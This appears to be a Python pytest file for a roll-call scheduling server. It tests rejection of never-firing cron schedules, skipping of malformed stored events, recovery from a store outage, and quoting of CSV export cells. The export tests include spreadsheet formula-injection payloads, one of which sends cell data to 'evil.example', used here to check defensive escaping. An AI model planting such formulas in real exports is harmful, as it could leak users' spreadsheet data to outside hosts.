"""A schedule that never fires is refused before it is stored; bad records at start-up or firing are logged, counted, skipped."""

from __future__ import annotations

import csv
import io
import logging
import zoneinfo
from collections.abc import Callable, Mapping
from datetime import datetime
from pathlib import Path

import aiohttp
import msgspec
import pytest

from server.command.keys import COMMAND
from server.config import DEFAULT_CONFIG_PATH, ConfigError, RollCallSchedule, load_config
from server.errors import RequestError
from server.rollcall.domain import RollCallId, fold
from server.rollcall.keys import SCHEDULES
from server.rollcall.schedules import SCHEDULE_STREAM
from server.rollcall.service import INDEX_STREAM, stream_of
from server.spreadsheet import safe_cell
from server.store import MemoryStore, StoredEvent, StoreUnavailable
from signaling.rollcall import RollCallStart

from .conftest import START

SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
FEB_31 = "0 0 31 2 *"


def _never_fires(daily: RollCallSchedule) -> RollCallSchedule:
    return msgspec.structs.replace(daily, id="feb-31", cron=FEB_31)


async def test_a_schedule_that_never_fires_is_refused_before_it_is_stored(make_platform) -> None:
    p = await make_platform()
    runner = p.app[SCHEDULES]
    daily = next(s for s in await runner.schedules() if s.id == "daily-duty")
    with pytest.raises(RequestError) as refused:
        await runner.save(_never_fires(daily), actor="chief")
    assert refused.value.code == "invalid_schedule" and "never fires" in refused.value.message
    assert await p.services.store.read_events(SCHEDULE_STREAM) == [], "nothing stored"
    assert "feb-31" not in runner.next_at


def test_the_configuration_file_refuses_a_schedule_that_never_fires(tmp_path: Path) -> None:
    path = tmp_path / "city.toml"
    path.write_text(DEFAULT_CONFIG_PATH.read_text(encoding="utf-8").replace('cron = "30 17 * * *"', f'cron = "{FEB_31}"'),
                    encoding="utf-8")
    with pytest.raises(ConfigError, match=r"rollcall_schedules\[0\]\.cron: '0 0 31 2 \*' never fires"):
        load_config(path, env={})


async def _stored(store: MemoryStore, stream: str, kind: str, data: Mapping[str, object], actor: str = "old-node") -> str:
    return (await store.append_event(stream, actor=actor, kind=kind, data=data)).id


async def test_bad_records_in_every_log_are_skipped_and_counted_at_start_up(make_platform, demo_config) -> None:
    store = MemoryStore(node_id="before", clock=lambda: START - 3600)
    daily = demo_config.rollcall_schedules[0]
    await _stored(store, SCHEDULE_STREAM, "saved", {"schedule": msgspec.to_builtins(_never_fires(daily))})
    await _stored(store, SCHEDULE_STREAM, "saved", {"schedule": {"id": "x", "cron": 5}})
    await _stored(store, SCHEDULE_STREAM, "renamed", {"id": "daily-duty"})
    await _stored(store, INDEX_STREAM, "created", {"sites": ["jiangbei"]})
    await _stored(store, INDEX_STREAM, "created", {"id": "aaaaaaaaaaaa"})
    await _stored(store, stream_of("aaaaaaaaaaaa"), "called", {"sites": ["jiangbei"]})  # no start
    await _stored(store, "command", "issued", {"directive_id": "d-1", "cls": "reference", "title": "t",
                                               "recipients": ["jiangbei"], "site": "office", "t": "noon"})
    await _stored(store, "command", "report_filed", {"incident_id": "i-1", "report_kind": "initial", "t": START - 3600,
                                                     "summary": "s", "casualties": [1, 2]})
    p = await make_platform(store=store)
    runner = p.app[SCHEDULES]
    assert runner.skipped.by_reason == {"invalid_schedule": 1, "bad_schedule": 1, "bad_event": 1}
    assert "daily-duty" in runner.next_at and "feb-31" not in runner.next_at
    assert p.rollcalls.skipped.by_reason == {"bad_event": 1, "bad_start": 1}
    assert p.app[COMMAND].service.skipped.by_reason == {"bad_event": 1, "bad_casualties": 1}
    await runner.schedules()  # the schedules page folds the log again: nothing is counted twice
    assert runner.skipped.total == 3


def test_a_bad_event_in_a_rollcall_changes_nothing_and_the_rest_still_count() -> None:
    events = [
        StoredEvent("1-0", "s", 0.0, "chief", "started", {"id": "r1", "window": 30, "grace": 0, "sites": ["a", "b"], "at": 100.0}),
        StoredEvent("2-0", "s", 0.0, "server", "called", {"sites": ["a", "nowhere"], "at": 100.0, "deadline": 130.0}),
        StoredEvent("3-0", "s", 0.0, "server", "called", {"sites": ["a"], "at": "soon", "deadline": 130.0}),
        StoredEvent("4-0", "s", 0.0, "server", "called", {"sites": ["b"], "at": 100.0, "deadline": 130.0}),
        StoredEvent("5-0", "s", 0.0, "x", "pressed", {"site": "b", "at": 105.0, "video": True}),
    ]
    rollcall = fold(events)
    assert rollcall.id == RollCallId("r1")
    assert rollcall.results["a"].outcome == "waiting" and rollcall.results["a"].called_at is None, "half an event is none"
    assert rollcall.results["b"].outcome == "answered" and rollcall.results["b"].response_time == 5.0
    assert [event_id for event_id, _ in rollcall.skipped] == ["2-0", "3-0"]


class _StoreDownOnce(MemoryStore):
    """A store that is unreachable for the first append to one stream (a Redis blip at 17:30)."""

    def __init__(self, *, node_id: str, clock: Callable[[], float], prefix: str) -> None:
        super().__init__(node_id=node_id, clock=clock)
        self.prefix = prefix
        self.failed = False

    async def append_event(self, stream: str, *, actor: str, kind: str, data: Mapping[str, object]) -> StoredEvent:
        if stream.startswith(self.prefix) and not self.failed:
            self.failed = True
            raise StoreUnavailable("cannot reach Redis")
        return await super().append_event(stream, actor=actor, kind=kind, data=data)


async def test_a_schedule_whose_firing_fails_is_logged_and_armed_for_its_next_time(
    make_platform, caplog: pytest.LogCaptureFixture
) -> None:
    p = await make_platform(store_factory=lambda clock: _StoreDownOnce(node_id="t", clock=clock.now, prefix="rollcall:"))
    caplog.set_level(logging.WARNING, logger="server.rollcall.schedules")
    p.clock.advance(60)  # 17:30 in Jiangzhou
    await p.services.scheduler.run_due()
    assert not p.rollcalls.active
    nxt = datetime.fromtimestamp(p.app[SCHEDULES].next_at["daily-duty"], SHANGHAI)
    assert (nxt.day, nxt.hour, nxt.minute) == (16, 17, 30), "armed for tomorrow all the same"
    warnings = [r for r in caplog.records if "scheduled rollcall not started" in r.getMessage()]
    assert len(warnings) == 1 and "daily-duty" in warnings[0].getMessage()


def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_quoted() -> None:
    for formula in ("=HYPERLINK(\"http://evil.example\",\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(formula) == "'" + formula
    assert [safe_cell(v) for v in ("jiangbei", "到 Present", "12.5", None, 3)] == ["jiangbei", "到 Present", "12.5", "", "3"]


async def test_the_rollcall_export_quotes_a_reason_that_is_a_formula(make_platform) -> None:
    p = await make_platform()
    caller = await p.connect("chief", "command_centre", grants=("subscribe", "moderate"))
    started = await caller.client.request(RollCallStart(sites=["jiangbei"], mode="all", window=30, grace=0))
    reason = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    await p.rollcalls.excuse(started.rollcall_id, site="jiangbei", reason=reason, actor="chief")
    token = p.services.tokens.issue_device_token(identity="chief", site="command_centre", room="consultation",
                                                 grants=("subscribe", "moderate"), ttl=600)
    async with aiohttp.ClientSession() as session:
        async with session.get(f"{p.url}/rollcalls/{started.rollcall_id}.csv?token={token}") as resp:
            assert resp.status == 200
            text = (await resp.read()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["excuse_reason"] == "'" + reason
